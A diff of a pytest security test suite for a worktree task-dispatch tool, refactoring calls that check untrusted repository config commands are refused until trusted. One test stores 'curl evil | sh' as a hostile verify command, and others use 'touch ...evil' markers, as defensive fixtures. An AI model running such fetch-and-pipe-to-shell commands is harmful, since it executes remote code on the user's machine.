@@ -28,7 +28,7 @@ def toml(stage: Stage, text: str) -> None:
 
 
 def trusted(fleet) -> None:
-    fleet.trust("p", fleet.untrusted("p")["values"])
+    fleet.settings.trust("p", fleet.settings.untrusted("p")["values"])
 
 
 @pytest.mark.req("SEC-1")
@@ -40,15 +40,15 @@ def test_a_command_of_worktrees_does_not_run_and_nobody_is_started_before_it_is_
         with pytest.raises(NotTrusted, match=f"worktree.{name}") as refused:
             wary.dispatch(fleet, "t", "sleep", "1000")
         assert (refused.value.code, "fleet trust -p p" in refused.value.spoken) == (14, True)
-        assert (fleet.dispatches(), ran.exists(), wary.tree("t").exists()) == ([], False, False)
+        assert (fleet.dispatches.list(), ran.exists(), wary.tree("t").exists()) == ([], False, False)
         trusted(fleet)
         wary.dispatch(fleet, "t", "sleep", "1000")
-        wary.launched(fleet, fleet.find("t"))
+        wary.launched(fleet, fleet.dispatches.find("t"))
         toml(wary, f'[worktree]\n{name} = "touch {ran}.evil"\n')
         with pytest.raises(NotTrusted):
             wary.dispatch(fleet, "other", "sleep", "1000")
-        fleet.kill(fleet.find("t"), "a test")
-        fleet.archive(project="p", slug="t")
+        fleet.dispatches.kill(fleet.dispatches.find("t"), "a test")
+        fleet.tasks.archive(project="p", slug="t")
         wary.swept(fleet)
         assert not wary.tree("t").exists(), "the release does not wait for it"
         assert not Path(f"{ran}.evil").exists(), "and does not run it"
@@ -62,13 +62,13 @@ def test_an_untrusted_verify_parks_the_task_and_is_neither_run_nor_skipped(wary)
         toml(wary, f'verify = "touch {ran}"\n')
         before = wary.git("rev-parse", "fleet/main")
         with pytest.raises(NotMergeable, match="verify command is not trusted"):
-            fleet.merge(project="p", slug="t")
-        task = fleet.task(project="p", slug="t")
+            fleet.merge.task(project="p", slug="t")
+        task = fleet.tasks.show(project="p", slug="t")
         assert (task["status"], ran.exists(), wary.git("rev-parse", "fleet/main")) == ("blocked", False, before)
         assert "not trusted" in task["reason"]
         trusted(fleet)
-        fleet.retry(project="p", slug="t")
-        fleet.merge(project="p", slug="t")
+        fleet.tasks.retry(project="p", slug="t")
+        fleet.merge.task(project="p", slug="t")
         assert ran.exists()
         assert wary.git("rev-parse", "fleet/main") != before
 
@@ -81,7 +81,7 @@ def test_a_verify_that_a_commit_takes_away_is_not_skipped(wary):
         done_task(wary, fleet)
         toml(wary, "")
         with pytest.raises(NotMergeable, match="not trusted"):
-            fleet.merge(project="p", slug="t")
+            fleet.merge.task(project="p", slug="t")
 
 
 @pytest.mark.req("SEC-1")
@@ -89,10 +89,10 @@ def test_a_raised_freedom_counts_as_it_was_before(wary):
     toml(wary, 'engine = "scripted"\nautonomy = "edits"\nreview = "person"\n')
     with wary.fleet() as fleet:
         with pytest.raises(NotTrusted, match="engine"):
-            fleet.check_start(Wanted(project="p", slug=""))
+            fleet.dispatches.check_start(Wanted(project="p", slug=""))
         trusted(fleet)
         toml(wary, 'engine = "shell"\nautonomy = "full"\nreview = "none"\nmerge = "pr"\n')
-        told = {name: fleet.settings("p")[name].value for name in ("engine", "autonomy", "review", "merge")}
+        told = {name: fleet.settings.read("p")[name].value for name in ("engine", "autonomy", "review", "merge")}
         assert told == {"engine": "scripted", "autonomy": "edits", "review": "person", "merge": "integrate"}
         _project, engine, autonomy = check_start(fleet.ground, Wanted(project="p", slug=""))
         assert (engine.name, autonomy) == ("scripted", "edits")
@@ -118,7 +118,9 @@ def test_trust_is_asked_for_once_by_content_and_shown_as_a_difference(wary):
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
     assert json.loads(path.read_text())["values"] == {"verify": "curl evil | sh", "autonomy": "full"}
     with wary.fleet() as fleet:
-        assert any(each["why"].startswith("trust autonomy, verify") for each in fleet.operations(Which(), limit=50))
+        assert any(
+            each["why"].startswith("trust autonomy, verify") for each in fleet.operations.list(Which(), limit=50)
+        )
 
 
 @pytest.mark.req("SEC-1")
@@ -135,7 +137,7 @@ def test_a_person_at_a_terminal_is_shown_it_and_asked_and_hidden_characters_are_
     terminal.type("y\n")
     assert terminal.ended().code == 0
     with wary.fleet() as fleet:
-        assert fleet.untrusted("p")["changes"] == []
+        assert fleet.settings.untrusted("p")["changes"] == []
 
 
 @pytest.mark.req("SEC-1")
@@ -143,10 +145,10 @@ def test_what_up_writes_is_trusted_and_what_was_there_is_not(wary):
     toml(wary, 'verify = "evil"\n')
     done = wary.program("up", "--engine", "shell", "--autonomy", "ask", "--review", "person", "--json").json
     with wary.fleet() as fleet:
-        assert [each["name"] for each in fleet.untrusted("p")["changes"]] == ["verify"]
-        assert fleet.settings("p")["engine"].value == "shell"
+        assert [each["name"] for each in fleet.settings.untrusted("p")["changes"]] == ["verify"]
+        assert fleet.settings.read("p")["engine"].value == "shell"
         assert any("verify" in each and "trusted" in each for each in done["warnings"])
-        fleet.coord_stop("p", "a test")
+        fleet.coord.stop("p", "a test")
 
 
 @pytest.mark.req("SEC-1")
@@ -166,8 +168,8 @@ def test_config_doctor_and_a_new_task_say_what_waits(wary):
 def test_the_operator_may_trust_every_repository(either):
     toml(either, 'verify = "true"\n')
     with either.fleet() as fleet:
-        assert fleet.untrusted("p")["changes"] == []
-        assert fleet.settings("p")["verify"].value == "true"
+        assert fleet.settings.untrusted("p")["changes"] == []
+        assert fleet.settings.read("p")["verify"].value == "true"
 
 
 def test_trust_of_another_repository_under_the_same_name_does_not_count(wary):
@@ -177,4 +179,4 @@ def test_trust_of_another_repository_under_the_same_name_does_not_count(wary):
     path = Path(wary.home, "trust", "p.json")
     path.write_text(path.read_text().replace(wary.repository, "/elsewhere"))
     with wary.fleet() as fleet:
-        assert [each["name"] for each in fleet.untrusted("p")["changes"]] == ["verify"]
+        assert [each["name"] for each in fleet.settings.untrusted("p")["changes"]] == ["verify"]
